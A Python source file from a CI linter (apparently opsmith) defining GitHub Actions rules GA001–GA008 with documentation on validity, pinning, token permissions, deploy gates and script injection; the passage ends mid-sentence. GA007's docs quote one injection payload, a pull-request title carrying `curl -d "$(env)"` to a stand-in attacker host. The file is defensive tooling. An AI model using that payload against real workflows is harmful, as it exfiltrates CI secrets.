"""GitHub Actions workflow rules GA001-GA015 (GA015, credentials, in workflow_secrets.py)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from opsmith.findings import Problem, Severity
from opsmith.fix.workflow import JOB_TIMEOUT, PIN_ACTION, READ_PERMISSIONS
from opsmith.parse.json_schema import SchemaProblem, schema_problems
from opsmith.parse.shell import Command
from opsmith.parse.workflow import Job, Step, Text, WorkflowDoc
from opsmith.parse.workflow_expr import ExpressionError, check, find_expressions, parse_expression
from opsmith.parse.yaml_tree import YMap, YSeq
from opsmith.rules import workflow_facts as facts
from opsmith.rules import workflow_taint as taint
from opsmith.rules.base import FileContext, RepoContext, Rule, file_rule, repo_rule
from opsmith.rules.repo_facts import build_inputs, has_code
from opsmith.rules.workflow_graph import (
    BUILD,
    DEPLOY,
    LINT,
    PREPARATION_ACTIONS,
    PUSH,
    SCAN,
    TEST,
    Deploy,
    WorkflowSet,
    is_manual_only,
    is_reusable_only,
    job_facts,
    script_commands,
    step_commands,
)
from opsmith.rules.workflow_secrets import ga015
from opsmith.rules.workflow_sessions import kinds_run_by_sessions

FAMILY = "workflow"
SCHEMA = "github-workflows.json"


@file_rule(
    "GA001",
    "E",
    FAMILY,
    "Workflow is not valid",
    fix="Correct the workflow so GitHub accepts it; `actionlint` shows the same class of errors.",
    docs="""
## What it does
Checks each workflow the way GitHub does before running it: the YAML must load, the file must
follow the workflow schema (no unknown or misspelt keys, values of the right type, required keys
present), keys must not be repeated, every job named in `needs` must exist and `needs` must not
form a cycle, step `id`s must be unique within a job, and every `${{ }}` expression must be
closed, well formed, and use only known contexts (`github`, `env`, `vars`, `secrets`, `needs`,
`matrix`, `inputs`, `steps`, `job`, `jobs`, `runner`, `strategy`) and functions. Each problem is
reported on the line of the key it is about. A value repeated through YAML anchors and aliases (or
pasted many times) is checked once against each part of the schema and its problems are reported
wherever it is used, so a file of nested aliases costs what its text costs, not what it expands to.

## Why it matters
GitHub rejects an invalid workflow when it is triggered, not when it is pushed: the mistake shows up
as a red run (or no run at all) on the branch that needed it, often the release. A misspelt key such
as `timeout-minute` is silently dropped by some tools and rejected by others; a `needs` on a renamed
job makes the whole workflow fail to start.

## Example
```yaml
jobs:
  deploy:
    needs: tests          # no job is called `tests`
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.sha }"
```

## Fix
```yaml
jobs:
  deploy:
    needs: test
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.sha }}"
```

## Equivalent rules
actionlint (syntax-check, job-needs, expression, id checks); zizmor has none (it assumes a valid
workflow); check-jsonschema's `check-github-workflows` hook covers the schema part only.
""",
)
def ga001(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    found: dict[tuple[int, str], Problem] = {}
    checks = (
        _duplicate_keys(doc),
        _schema_problems(doc),
        _needs_problems(doc),
        _duplicate_step_ids(doc),
        _expression_problems(doc),
    )
    for problems in checks:
        for problem in problems:
            found.setdefault((problem.line or 0, problem.message), problem)
    yield from sorted(found.values(), key=lambda p: p.line or 0)


def _lenient(problem: SchemaProblem) -> bool:
    """Where the schema is stricter than GitHub: a `strategy` without a `matrix` (to set only
    `fail-fast` or `max-parallel`) runs fine, and popular repositories rely on it."""
    return problem.path[-1:] == ("strategy",) and problem.message.endswith("required key `matrix`")


def _maps(node: Any, seen: set[int]) -> Iterator[YMap]:
    if id(node) in seen or not isinstance(node, YMap | YSeq):
        return
    seen.add(id(node))
    if isinstance(node, YMap):
        yield node
    for child in node.values() if isinstance(node, YMap) else node:
        yield from _maps(child, seen)


def _duplicate_keys(doc: WorkflowDoc) -> Iterator[Problem]:
    for node in _maps(doc.tree, set()):
        for key, line in node.duplicate_keys:
            yield Problem(f"key `{key}` is written twice in the same mapping (GitHub rejects it)", line)


def _needs_problems(doc: WorkflowDoc) -> Iterator[Problem]:
    ids = {j.id for j in doc.jobs}
    for job in doc.jobs:
        for need, line in zip(job.needs, job.needs_lines, strict=True):
            if need not in ids:
                yield Problem(f"job `{job.id}` needs `{need}`, which is not a job of this workflow", line)
    cycle = _cycle(doc)
    if cycle:
        first = doc.job(cycle[0])
        line = first.needs_lines[0] if first and first.needs_lines else doc.jobs_line
        yield Problem(f"jobs wait for each other in a cycle: {' -> '.join([*cycle, cycle[0]])}", line)


def _cycle(doc: WorkflowDoc) -> list[str] | None:
    state: dict[str, int] = {}  # 1 visiting, 2 done
    stack: list[str] = []

    def visit(job_id: str) -> list[str] | None:
        state[job_id] = 1
        stack.append(job_id)
        job = doc.job(job_id)
        for need in job.needs if job else ():
            if state.get(need) == 1:
                return stack[stack.index(need) :]
            if need not in state and doc.job(need) is not None:
                found = visit(need)
                if found:
                    return found
        stack.pop()
        state[job_id] = 2
        return None

    for job in doc.jobs:
        if job.id not in state:
            found = visit(job.id)
            if found:
                return found
    return None


def _duplicate_step_ids(doc: WorkflowDoc) -> Iterator[Problem]:
    for job in doc.jobs:
        seen: dict[str, int] = {}
        for step in job.steps:
            if step.id is None:
                continue
            line = step.raw.key_line("id")
            if step.id in seen:
                yield Problem(
                    f"step id `{step.id}` is already used in job `{job.id}` (line {seen[step.id]})", line
                )
            else:
                seen[step.id] = line


def _expression_problems(doc: WorkflowDoc) -> Iterator[Problem]:
    for path, text in doc.strings():
        if "${{" in text.value:
            for expr in find_expressions(text.value):
                line = text.line_at(expr.start)
                if not expr.closed:
                    yield Problem(f"`${{{{ {_short(expr.inner)}` is not closed: `}}}}` is missing", line)
                    continue
                reason = _expression_error(expr.inner)
                if reason:
                    yield Problem(f"invalid expression `${{{{ {_short(expr.inner)} }}}}`: {reason}", line)
        elif _is_condition(path):
            reason = _expression_error(text.value)
            if reason:
                yield Problem(f"invalid `if:` condition `{_short(text.value)}`: {reason}", text.line)


def _is_condition(path: tuple[Any, ...]) -> bool:
    return bool(path) and path[0] == "jobs" and path[-1] == "if" and len(path) in (3, 5)


def _expression_error(text: str) -> str | None:
    try:
        return check(parse_expression(text))
    except ExpressionError as exc:
        return exc.message


def _short(text: str, size: int = 60) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= size else flat[: size - 1] + "…"


@repo_rule(
    "GA002",
    "W",
    FAMILY,
    "Deploying workflow has no concurrency group",
    fix="Add `concurrency: {group: deploy-${{ github.ref }}, cancel-in-progress: false}` to the "
    "workflow or to each deploying job.",
    docs="""
## What it does
Reports a workflow that deploys (a job recognised as a deploy: `kubectl apply`, `helm upgrade`,
`terraform apply`, `flyctl deploy`, a deploy action, a reusable deploy workflow...) or pushes a
container image, when neither the workflow nor the deploying job sets `concurrency`.
A job that deploys only to test the deployment is not a deploy here: one that starts a kind, k3d
or minikube cluster itself (`helm/kind-action`, `kind create cluster`...) or is named for tests
(`e2e-tests`, `deployment-tests`) and declares no `environment:`; what it deploys to is thrown
away with the run.

## Why it matters
Two pushes a minute apart start two runs that deploy at the same time. They race: the older commit
can finish last and stay live, two `terraform apply` runs fight over the state lock, and a rollout
is interrupted half-way by the next one.

## Example
```yaml
on: {push: {branches: [main]}}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: helm upgrade --install shop ./chart
```

## Fix
```yaml
concurrency:
  group: deploy-production
  cancel-in-progress: false   # let a running deploy finish; queue the next one
```

## Equivalent rules
zizmor has no such audit (its `concurrency-limits` is a pedantic-only check); actionlint, checkov:
none.
""",
)
def ga002(repo: RepoContext) -> Iterator[Problem]:
    flows = WorkflowSet(repo.documents(FAMILY))
    for path, doc in flows.docs:
        if doc.has_concurrency or is_reusable_only(doc):
            continue
        busy = [
            job
            for job in doc.jobs
            if not job.has_concurrency
            and (flows.deploy_of(path, doc, job) is not None or PUSH in job_facts(job).kinds)
        ]
        if busy:
            names = ", ".join(f"`{j.id}`" for j in busy)
            yield Problem(
                f"this workflow deploys or pushes images ({_plural(busy, 'job')} {names}) without a "
                "`concurrency` group: "
                "two runs can deploy at once and an older commit can end up live",
                busy[0].line,
                path=path,
            )


def _plural(items: list[Any], word: str) -> str:
    return word if len(items) == 1 else f"{word}s"


_SHA = re.compile(r"^[0-9a-f]{40}$")
# `v1.2.3`, `1.2.3-rc.1`, `1.2+build`: written so that no dot can be read two ways, which made
# `1.1.1...x` exponential ([.-]W covers every dotted tail the numbered parts could take).
_VERSION = re.compile(r"^v?\d+(?:[.-][0-9A-Za-z.-]+|(?:\.\d+)*\+[0-9A-Za-z.-]+)?$")
_BRANCHES = frozenset(
    {
        "main",
        "master",
        "develop",
        "development",
        "dev",
        "trunk",
        "stable",
        "nightly",
        "beta",
        "latest",
        "head",
        "next",
        "edge",
        "canary",
        "release",
    }
)
_FIRST_PARTY = ("actions/", "github/")
# Actions that only work when referenced by a release tag (they check their provenance by it).
_TAG_ONLY = ("slsa-framework/slsa-github-generator/",)


def _refs(doc: WorkflowDoc) -> Iterator[tuple[Text, str]]:
    """Every `uses:` (steps and reusable-workflow jobs) with what it is: "action" or "workflow"."""
    for job in doc.jobs:
        if job.uses is not None:
            yield job.uses, "workflow"
        for step in job.steps:
            if step.uses is not None:
                yield step.uses, "action"


def _ref_parts(uses: str) -> tuple[str, str | None]:
    name, sep, ref = uses.strip().partition("@")
    return name, (ref.strip() or None) if sep else None


@file_rule(
    "GA003",
    "E",
    FAMILY,
    "Action or reusable workflow follows a branch",
    fix="Pin to a full commit SHA and keep the version as a comment: `uses: owner/repo@<sha> # v1.2.3`.",
    docs="""
## What it does
Reports a `uses:` that follows a moving branch (`@main`, `@master`, `@develop`, `@stable`...) or has
no ref at all, for actions and reusable workflows alike, and a `docker://` image with no tag or the
`latest` tag. Local actions and workflows (`./path`, or GitHub's self-repository form `$/path`) are
part of the same commit and are fine. Tags are judged by GA013 and GA014.

## Why it matters
Whoever can push to that branch runs code in your pipeline, with your secrets and your
`GITHUB_TOKEN`, on the next run, with nothing changing in your repository. Branch heads also move
for innocent reasons, so yesterday's green build is not reproducible today.

## Example
```yaml
- uses: aquasecurity/trivy-action@master
- uses: docker://alpine
```

## Fix
```yaml
- uses: aquasecurity/trivy-action@ed142fd0673e97e23eac54620cfb913e5ce36c25 # v0.36.0
- uses: docker://alpine:3.20@sha256:<digest>
```
Dependabot and Renovate both update SHA pins and their version comments.

## Equivalent rules
zizmor `unpinned-uses` (and `ref-confusion`); actionlint has none; checkov CKV_GHA_* has none for
branches; OpenSSF Scorecard "Pinned-Dependencies".
""",
)
def ga003(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    return _pins_of_kind(doc, ctx, "moving")


@file_rule(
    "GA013",
    "W",
    FAMILY,
    "Third-party action pinned to a tag, not a commit",
    fixer=PIN_ACTION,
    fix="Replace the tag with the commit SHA it points to and keep the tag as a comment.",
    docs="""
## What it does
Reports a third-party action or reusable workflow (anything outside `actions/` and `github/`) whose
ref is a tag (`@v4`, `@v1.2.3`) or another name rather than a full 40-character commit SHA, and a
`docker://` image pinned by tag without a digest. GitHub's own actions pinned to a release tag are
reported at info by GA014. The owners you list in `.opsmith.toml` (your own organisation, for
example) may use tags:

```toml
[workflow]
trusted-owners = ["acme"]
```

The SLSA generators (`slsa-framework/slsa-github-generator`) are exempt: they must be referenced
by a release tag, because they verify their own provenance through that tag and refuse to run from
a commit SHA.

## Why it matters
Tags can be moved by anyone with write access to the action's repository, and attackers who take
over a maintainer account do exactly that: the tj-actions/changed-files compromise in 2025 re-pointed
every tag of a popular action at code that printed CI secrets into public logs. A commit SHA cannot
be re-pointed.

It fires on most workflow files of repositories that have not adopted SHA pinning yet: every
third-party `uses:` line is one finding, which is how zizmor and OpenSSF Scorecard count them too.
Tools such as Dependabot and Renovate keep SHA pins (with the tag in a comment) up to date.

## Example
```yaml
- uses: docker/build-push-action@v6
```

## Fix
```yaml
- uses: docker/build-push-action@<40-character sha> # v6.x.y
```

## Equivalent rules
zizmor `unpinned-uses` (hash-pin policy for third parties); checkov CKV_GHA_* has none; OpenSSF
Scorecard "Pinned-Dependencies".
""",
)
def ga013(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    return _pins_of_kind(doc, ctx, "tag")


def _pins_of_kind(doc: WorkflowDoc, ctx: FileContext, kind: str) -> Iterator[Problem]:
    owners = ctx.setting("workflow.trusted-owners", []) or []
    trusted = tuple(f"{str(o).lower().strip('/')}/" for o in owners)
    for uses, _what in _refs(doc):
        verdict = _pin_verdict(uses.value, trusted)
        if verdict is not None and verdict[0] == kind:
            yield Problem(verdict[1], uses.line_at(0), fix=_suggestion(uses.value))


@file_rule(
    "GA014",
    "I",
    FAMILY,
    "GitHub-owned action pinned to a tag, not a commit",
    fixer=PIN_ACTION,
    fix="Replace the tag with the commit SHA it points to and keep the tag as a comment.",
    docs="""
## What it does
Reports an action or reusable workflow published by GitHub itself (`actions/...`, `github/...`)
that is referenced by a release tag (`actions/checkout@v4`) instead of a full commit SHA.

## Why it matters
GitHub's own tags are moved on purpose: `v4` follows every 4.x release, so the code that runs
changes without a change in your repository. They are far less likely to be hijacked than a small
third-party action's, which is why this is advice (info) rather than a warning like GA013, but a
compromised maintainer account or a bad release reaches every workflow that follows the tag. After
the tag-moving incidents of 2025 (tj-actions/changed-files, reviewdog), zizmor and OpenSSF
Scorecard ask for SHA pins everywhere.

## Example
```yaml
- uses: actions/checkout@v4
```

## Fix
```yaml
- uses: actions/checkout@<40-character sha> # v4.2.2
```
Dependabot and Renovate keep SHA pins and their version comments up to date.

## Equivalent rules
zizmor `unpinned-uses` (its default policy asks for a hash pin for every action); OpenSSF
Scorecard "Pinned-Dependencies"; checkov and actionlint have none.
""",
)
def ga014(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    return _pins_of_kind(doc, ctx, "first-party")


def _pin_verdict(uses: str, trusted: tuple[str, ...] = ()) -> tuple[str, str] | None:
    """("moving" | "tag" | "first-party", message) for a ref that is not pinned, None when it is
    (or may not be pinned otherwise)."""
    text = uses.strip()
    if text.startswith(("./", "$/")) or "${{" in text:
        return None
    if text.startswith("docker://"):
        return _image_verdict(text)
    name, ref = _ref_parts(text)
    if ref is None:
        return "moving", f"`{text}` has no ref: say which commit to run"
    if _SHA.match(ref):
        return None
    if ref.lower() in _BRANCHES:
        return "moving", f"`{text}` follows the `{ref}` branch: whatever is pushed there runs here"
    owner = name.lower()
    if owner.startswith(_FIRST_PARTY + _TAG_ONLY + trusted):
        if not _VERSION.match(ref):
            return "tag", f"`{text}`: `{ref}` is neither a release tag nor a commit SHA"
        if owner.startswith(_FIRST_PARTY) and not owner.startswith(trusted):
            return "first-party", f"`{text}` is pinned to a release tag, which GitHub can move"
        return None
    if re.fullmatch(r"[0-9a-f]{7,39}", ref):
        return "tag", f"`{text}` uses a short SHA: only a full 40-character SHA is immutable"
    return "tag", f"third-party `{text}` is pinned to a tag, which its owners can move"


def _image_verdict(text: str) -> tuple[str, str] | None:
    from opsmith.parse.image import image_ref

    ref = image_ref(text.removeprefix("docker://"))
    if ref.digest:
        return None
    if ref.tag is None or ref.tag == "latest":
        return "moving", f"`{text}` runs whatever image is `latest` at the time"
    return "tag", f"`{text}` is pinned by tag only; add the image digest"


def _suggestion(uses: str) -> str | None:
    name, ref = _ref_parts(uses.strip())
    pin = facts.known_pin("/".join(name.lower().split("/")[:2]))
    if pin is None:
        return None
    sha, tag = pin
    same_major = ref is not None and _major(ref) is not None and _major(ref) == _major(tag)
    if same_major or ref is None or ref.lower() in _BRANCHES:
        return f"Pin to a commit: `uses: {name}@{sha} # {tag}`."
    return (
        f"Pin to the commit of the release you use (`git ls-remote` the tag); the newest release "
        f"opsmith knows is `{name}@{sha} # {tag}`, a different major version: read its changelog first."
    )


def _major(ref: str) -> str | None:
    match = re.match(r"v?(\d+)", ref)
    return match.group(1) if match else None


@file_rule(
    "GA004",
    "W",
    FAMILY,
    "GITHUB_TOKEN permissions not restricted",
    fixer=READ_PERMISSIONS,
    fix="Add `permissions: {contents: read}` at the top of the workflow and grant more per job.",
    docs="""
## What it does
Reports what gives jobs more token permissions than they need:

- a workflow that sets no `permissions:` while some of its jobs set none either (reported once,
  on the first of those jobs), and a job that calls a reusable workflow without `permissions:`;
- `permissions: write-all` anywhere, and `read-all` on the workflow or a job;
- a `write` scope granted at the workflow level (`contents: write`, `id-token: write`) when the
  workflow has several jobs and some of them inherit it: each of those jobs gets the scope, not
  only the one that needs it. In a single-job workflow the two places are equivalent.

A reusable workflow (`on: workflow_call` only) runs with the token its caller grants, so its jobs
are not asked to restrict it themselves; a job that calls another reusable workflow (`uses:`) is,
because that is where the callee's token is narrowed.

## Why it matters
Without `permissions:`, the `GITHUB_TOKEN` of every job gets the repository's default, which is
read-write on contents, packages, issues, pull requests and more in many organisations. Any
compromised step (a hijacked action, an injected script) can then push code, publish packages or
rewrite releases. `read-all` still exposes every private scope (packages, security events,
deployments) to every step. Least privilege limits what a bad step can do.

It fires on most workflow files of repositories that predate the practice (the default token
scope is easy to forget), once per workflow rather than once per job, so the count stays one
fix per file.

## Example
```yaml
on: push
permissions:
  contents: write      # only the release job needs it
jobs:
  test:
    runs-on: ubuntu-latest
    steps: [...]
  release:
    runs-on: ubuntu-latest
    steps: [...]
```

## Fix
```yaml
on: push
permissions:
  contents: read
jobs:
  release:
    permissions:
      contents: write   # only the job that needs it
```

## Equivalent rules
zizmor `excessive-permissions` (it reports a missing `permissions:` block only in its pedantic
persona and a single-job workflow's write scopes too; opsmith reports the first and not the
second); checkov CKV2_GHA_1 (top-level permissions not write-all); OpenSSF Scorecard
"Token-Permissions".
""",
)
def ga004(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    inheriting = [j for j in doc.jobs if not j.has_permissions]
    if doc.has_permissions:
        yield from _broad_workflow_permissions(doc, inheriting)
    else:
        # A reusable workflow's own jobs run with the token its caller grants.
        plain = [] if is_reusable_only(doc) else [j for j in inheriting if j.uses is None]
        if plain:
            yield Problem(
                f"no `permissions:` for the workflow nor for {_jobs(plain)}: their GITHUB_TOKEN gets "
                "the repository default, often read-write",
                plain[0].line,
            )
        for job in inheriting:
            if job.uses is not None:
                yield Problem(
                    f"job `{job.id}` calls a reusable workflow without `permissions:`: it hands on its "
                    "whole token",
                    job.line,
                )
    for job in doc.jobs:
        granted = job.raw.get("permissions")
        if granted in ("write-all", "read-all"):
            yield Problem(f"job `{job.id}` has `permissions: {granted}`", job.raw.key_line("permissions"))


def _jobs(jobs: list[Job]) -> str:
    names = ", ".join(f"`{j.id}`" for j in jobs[:5]) + (" ..." if len(jobs) > 5 else "")
    return f"{_plural(jobs, 'job')} {names}"


def _broad_workflow_permissions(doc: WorkflowDoc, inheriting: list[Job]) -> Iterator[Problem]:
    granted = doc.tree.get("permissions")
    line = doc.tree.key_line("permissions")
    if granted == "write-all":
        if inheriting:
            who = f"{_jobs(inheriting)}, which set no permissions of their own,"
        else:
            who = "every job added later (each job sets its own permissions today)"
        yield Problem(f"`permissions: write-all` gives {who} write access to everything", line)
    elif granted == "read-all" and inheriting:
        yield Problem(
            f"`permissions: read-all` lets {_jobs(inheriting)} read every scope, "
            "private packages and security events included: name the scopes needed",
            line,
        )
    elif isinstance(granted, YMap) and inheriting and len(doc.jobs) > 1:
        for scope, level in granted.items():
            if level == "write":
                yield Problem(
                    f"`{scope}: write` at the workflow level goes to {_jobs(inheriting)}: grant it on "
                    "the job that needs it",
                    granted.key_line(scope),
                )


@repo_rule(
    "GA005",
    "E",
    FAMILY,
    "Production deploy without environment or gates",
    fix="Give the deploy job `environment: production` and make it `needs:` the test and security "
    "scan jobs (directly or through the build job).",
    docs="""
## What it does
Finds jobs that deploy to production (recognised by their commands and actions: `kubectl apply`,
`helm upgrade`, `terraform apply`, `flyctl deploy`, `aws ecs update-service`, `gcloud run deploy`,
`docker compose up` over ssh, `railway up`, `opsmith deploy`, deploy scripts, deploy actions, or a
job with an `environment:` that calls itself a deploy; publishing a package or a release is not a
deploy; the target is read from the environment name, the job name and the deploy command; an
unlabelled deploy counts as production) and reports them when:

- the job has no `environment:`, or
- it can run without a test job and a security-scan job having passed first. Gating follows
  `needs` transitively (a job only runs when everything it needs succeeded, unless its `if:` uses
  `always()`), a caller job of a local reusable workflow, and `workflow_run` triggers that check
  `conclusion == 'success'`. Manual-only workflows (`workflow_dispatch`) with an environment are
  left to that environment's protection rules.

A job that deploys only to test the deployment is not a deploy here: one that starts a kind, k3d
or minikube cluster itself (`helm/kind-action`, `kind create cluster`...) or is named for tests
(`e2e-tests`, `deployment-tests`) and declares no `environment:`; what it deploys to is thrown
away with the run.

## Why it matters
An environment is where required reviewers, wait timers, branch restrictions and
production-only secrets live; a deploy job without one runs with none of them. A deploy that does
not wait for the tests and the security scan ships whatever was pushed, even when CI is red.

## Example
```yaml
jobs:
  test: {runs-on: ubuntu-latest, steps: [{run: npm test}]}
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: kubectl apply -f k8s/
```

## Fix
```yaml
jobs:
  deploy:
    needs: [test, scan]
    environment: production
    runs-on: ubuntu-latest
    steps:
      - run: kubectl apply -f k8s/
```

## Equivalent rules
None in zizmor, actionlint or checkov (they do not model deploys).
""",
)
def ga005(repo: RepoContext) -> Iterator[Problem]:
    flows = WorkflowSet(repo.documents(FAMILY))
    for deploy in flows.deploys():
        if not deploy.production:
            continue
        job = deploy.job
        issues: list[str] = []
        if job.uses is None and job.environment is None:
            issues.append("has no `environment:` (no reviewers, no protection rules, no scoped secrets)")
        missing = _missing_gates(flows, deploy)
        if missing:
            issues.append(f"can run before any {' or '.join(missing)} has passed")
        if issues:
            yield Problem(
                f"production deploy job `{job.id}` " + " and ".join(issues), job.line, path=deploy.path
            )


def _missing_gates(flows: WorkflowSet, deploy: Deploy) -> list[str]:
    doc, job = deploy.doc, deploy.job
    if is_reusable_only(doc):
        return []  # its callers are deploy jobs too, judged where the `needs` are
    if is_manual_only(doc) and (job.environment is not None or job.uses is not None):
        return []  # left to the environment's protection rules
    gates = flows.gates(doc, job, job_facts(job).first(DEPLOY))
    names = {TEST: "test job", SCAN: "security scan"}
    return [names[k] for k in (TEST, SCAN) if k not in gates]


@repo_rule(
    "GA006",
    "W",
    FAMILY,
    "CI lacks a stage",
    fix="Add the missing jobs to CI: lint, test, build and a security scan (e.g. Trivy, CodeQL, "
    "`npm audit`, `pip-audit`, zizmor).",
    docs="""
## What it does
Looks at all workflows of the repository together and reports, once, which of the usual CI stages
none of them runs: lint (linters, formatters in check mode, type checkers), test, build, security
scan. A build stage is only asked for when the repository has something to build (a Dockerfile, a
`package.json` with a `build` script, `go.mod`, `Cargo.toml`, `pom.xml`, `build.gradle`, a
`pyproject.toml` with a `[build-system]`...); lint and test only when it holds code. The finding is
placed on the workflow that looks like the main CI.

A lint stage is a linter, formatter check or type checker run directly, or a script, make target,
nox session or tox environment named for one: `lint`, `typecheck`, `typing`, `format`, `style`,
`pep8`, `pep484`, `mypy`, `flake8`, `ruff`... (`nox -s pep484` is Alembic's mypy run). The body of
the root `noxfile.py` session or `tox.ini` environment a workflow runs is read too: a `nox -s check`
whose session runs `flake8` is a lint stage.

A job counts as a build when it runs a build tool (`docker build`, `go build`, `mvn package`...) or a
script or make target named for one: `build`, `compile`, `bundle`, `dist`, `package`, `all`, and
`generate`, which is the build of repositories whose artifact is generated (jsonnet libraries that
generate their Kubernetes manifests, static sites). `go generate` alone is code generation, not a
build.

## Why it matters
Each stage catches a different class of failure before it reaches users: lint catches mistakes
cheaply, tests catch regressions, the build proves the artifact can be produced from a clean
checkout, and a scan catches known-vulnerable dependencies and misconfigurations. A missing stage
means that class of bug is found in production.

## Example
A repository with a Dockerfile whose only workflow runs `npm test`.

## Fix
```yaml
jobs:
  lint:  {runs-on: ubuntu-latest, steps: [..., {run: npm run lint}]}
  test:  {runs-on: ubuntu-latest, steps: [..., {run: npm test}]}
  scan:  {runs-on: ubuntu-latest, steps: [..., {uses: aquasecurity/trivy-action@<sha>}]}
  build:
    needs: [lint, test, scan]
    runs-on: ubuntu-latest
    steps: [..., {uses: docker/build-push-action@<sha>}]
```

## Equivalent rules
None in zizmor, actionlint or checkov.
""",
)
def ga006(repo: RepoContext) -> Iterator[Problem]:
    flows = WorkflowSet(repo.documents(FAMILY))
    if not flows.docs or not has_code(repo):
        return
    seen: set[str] = set()
    for _path, doc in flows.docs:
        for job in doc.jobs:
            seen |= job_facts(job).kinds
    wanted = [LINT, TEST, SCAN] + ([BUILD] if build_inputs(repo) else [])
    if any(k not in seen for k in wanted):
        seen |= kinds_run_by_sessions(repo, flows.docs)
    missing = [k for k in wanted if k not in seen]
    if not missing:
        return
    path, doc = _main_ci(flows)
    names = {LINT: "lint", TEST: "test", SCAN: "security scan", BUILD: "build"}
    words = [names[k] for k in missing]
    listed = words[0] if len(words) == 1 else f"{', '.join(words[:-1])} or {words[-1]}"
    yield Problem(f"no workflow of this repository runs a {listed} stage", doc.jobs_line, path=path)


def _main_ci(flows: WorkflowSet) -> tuple[str, WorkflowDoc]:
    def rank(item: tuple[str, WorkflowDoc]) -> tuple[bool, bool, int, str]:
        path, doc = item  # CI checks pull requests; then pushes; then the busiest workflow
        return ("pull_request" not in doc.triggers, "push" not in doc.triggers, -len(doc.jobs), path)

    return min(flows.docs, key=rank)


@file_rule(
    "GA007",
    "E",
    FAMILY,
    "Untrusted input expanded into a script",
    applies_to="everywhere",
    fix="Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use "
    '`"$TITLE"` in the script.',
    docs="""
## What it does
Reports `${{ }}` expressions pasted into code whose value can be written by whoever opens an issue,
a pull request, a comment, a review or a discussion, or pushes a commit: titles and bodies, head
branch names and labels, commit messages and author names and emails, `github.head_ref`,
`workflow_run` head branches and commits, and `workflow_dispatch` inputs.

Code means `run:` scripts (steps inside `parallel:` groups included) and the inputs of well-known
actions that run their value: `actions/github-script` and `Amadevus/pwsh-script` `script`, the
`cmd` of `mikefarah/yq` and `sergeysova/jq-action`, `appleboy/ssh-action` `script`, the
`inlineScript` of `azure/cli` and `azure/powershell`, and the `*_template` inputs of
`tibdex/backport`. The text may arrive indirectly: `${{ env.TITLE }}` where `TITLE` is set (on the
step, the job or the workflow) from an untrusted expression, and `${{ matrix.x }}` where the
matrix value, or the whole matrix, is built from one.

`workflow_dispatch` inputs of type `boolean`, `choice`, `number` or `environment` are not reported:
GitHub accepts only a value of that type (or a listed option), so they cannot carry a payload.
Values that only pass through a comparison or `contains()` (booleans) are fine, and so are
`github.sha`, `github.run_id`, numbers (`(github.event.pull_request || github.event.issue).number`)
and the like.

The name of the pushed branch or tag (`github.ref`, `github.ref_name`, `github.event.ref`) is
reported at info in workflows run on `push`, `create`, `release` or `workflow_dispatch`: a ref name
may hold `$(...)`, `;` or backquotes, but only someone with write access chooses it, and such a
person can usually change the workflow itself. On other events GitHub sets it
(`refs/pull/N/merge` on pull requests), so it is not reported there.

## Why it matters
GitHub pastes the expression's text into the script before the shell runs it. A pull request titled
`a"; curl -d "$(env)" https://evil.example #` then runs the attacker's command inside your workflow,
with its secrets and token. This is the most common way public repositories get their CI taken
over.

## Example
```yaml
- run: echo "New issue: ${{ github.event.issue.title }}"
```

## Fix
```yaml
- env:
    TITLE: ${{ github.event.issue.title }}
  run: echo "New issue: $TITLE"
```

## Equivalent rules
zizmor `template-injection`; actionlint `expression` (untrusted input checks); checkov CKV_GHA_2 /
CKV2_GHA_* (shell injection). zizmor also reports, mostly in its pedantic and auditor personas,
any expression it cannot prove constant: `github.ref` on pull requests (where it is
`refs/pull/N/merge`), `repository_dispatch` payloads (sent with a token that can write to the
repository), step outputs, `secrets`, static matrix and `env` values, and matrix values built from
`github.repository_owner`. opsmith keeps this rule's errors to text that outsiders write, and
pushed ref names at info (above).
""",
)
def ga007(doc: WorkflowDoc, ctx: FileContext) -> Iterator[Problem]:
    for found in taint.injections(doc):
        line = found.sink.line_at(found.offset)
        if found.insider:
            message = (
                f"`{found.source}` is expanded into {found.where}: a branch or tag name, chosen by whoever "
                "pushes it, can hold shell syntax"
            )
            yield Problem(message, line, at_most=Severity.INFO)
        else:
            yield Problem(
                f"`{found.source}` is expanded into {found.where}: whoever writes it can run commands here",
                line,
            )


@file_rule(
    "GA008",
    "E",
    FAMILY,
    "Privileged trigger checks out the pull request's code",
    applies_to="everywhere",
    fix="Use `pull_request` for anything that runs the PR's code; keep `pull_request_target` and "
    "`workflow_run` to steps that never execute it.",
    docs="""
## What it does
In workflows triggered by `pull_request_target` or `workflow_run`, reports steps that fetch the pull
request's head: `actions/checkout` with a `ref:` (or `repository:`) taken from
`github.event.pull_request.head.*`, `github.head_ref`, `refs/pull/...`, or
`github.event.workflow_run.head_*`, and `gh pr checkout` / `git fetch ... pull/...` in scripts. Jobs
that only run for pull requests from the same repository (an `if:` comparing the head repository
with `github.repository`) are exempt, and so are jobs that only run for Dependabot's pull requests
(`if: github.event.pull_request.user.login == 'dependabot[bot]'`): only Dependabot can author
those, and its branches live in this repository. A check on `github.actor` does not count, because
the actor is whoever caused the run, not the author of the code.

## Why it matters
These triggers run in the context of the base repository: with its secrets and a token that can
write. Checking out the pull request and then building or testing it runs code from any fork with
those privileges ("pwn request"): a `package.json` `postinstall`, a test file or a Makefile is
enough to steal every secret.

## Example
```yaml
on: pull_request_target
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
```

## Fix
Run the tests under `on: pull_request` (no secrets for forks). If a privileged step must follow,
pass results as artifacts to a separate `workflow_run` job that never executes the PR's files.

## Equivalent rules
CodeQL `actions/untrusted-checkout` judges the same thing. zizmor `dangerous-triggers` reports
every `pull_request_target` and `workflow_run` trigger, whatever the jobs do: these triggers are
the right tool for labelling, commenting or reporting on pull requests from forks, and a
warning on each of them would mostly be noise. opsmith reports the step that makes the trigger
